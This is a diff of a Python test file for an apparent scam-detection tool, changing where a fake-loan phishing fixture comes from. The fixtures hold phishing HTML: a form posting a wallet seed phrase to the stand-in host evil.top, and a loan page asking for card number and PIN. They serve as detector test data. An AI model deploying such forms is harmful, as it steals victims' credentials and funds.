@@ -12,7 +12,7 @@ from scamtriage.records.evidence import Dossier, Mode
 from scamtriage.records.target import Target
 from scamtriage.render import share
 from scamtriage.targets.parse import parse_target
-from tests.judgement.sites import dossier
+from tests.judgement.sites import dossier, sites
 
 RULES = Rules.load()
 SEED_PHRASE = (
@@ -20,6 +20,8 @@ SEED_PHRASE = (
     'access to your funds.</p><form action="https://evil.top/x" method="post"><textarea name="seed" placeholder="recovery phrase">'
     "</textarea></form>"
 )
+
+LOAN_SCAM: str = next(site["html"] for site in sites("fourth") if site["id"] == "en-ph-loan-apk")
 
 
 def row(url: str, html: str, rules: Rules = RULES, **site: Any) -> Assessment:
@@ -305,17 +307,9 @@ def test_what_two_tenants_or_a_country_share_makes_them_no_one_site(host: str, p
 
 
 def test_a_row_of_ours_that_nothing_confirms_whitewashes_nobody() -> None:
-    confirmed, alone = row("bcel.com.la", SEED_PHRASE), row("ghtk.vn", SEED_PHRASE)
+    confirmed, alone = row("bcel.com.la", LOAN_SCAM), row("ghtk.vn", LOAN_SCAM)
     assert confirmed.verdict is Verdict.UNDETERMINED and "compromised-site" in confirmed.states
     assert alone.verdict.rank >= Verdict.SUSPICIOUS.rank
-
-
-LOAN_SCAM = (
-    "<title>Approved in five minutes</title><h1>Your loan is approved</h1><p>No credit check. Pay the insurance fee of 300 before your "
-    "loan is released. Install our app and write to our officer on Telegram at once, or your approval lapses.</p>"
-    '<a href="/loan.apk">Install the app</a> <a href="https://t.me/+AbCdEf123">Telegram</a><form>'
-    '<input name=card placeholder="Card number"><input type=password placeholder=PIN></form>'
-)
 
 
 @pytest.mark.parametrize("host", ["kasikornbank.com", "www.rmp.gov.my"])
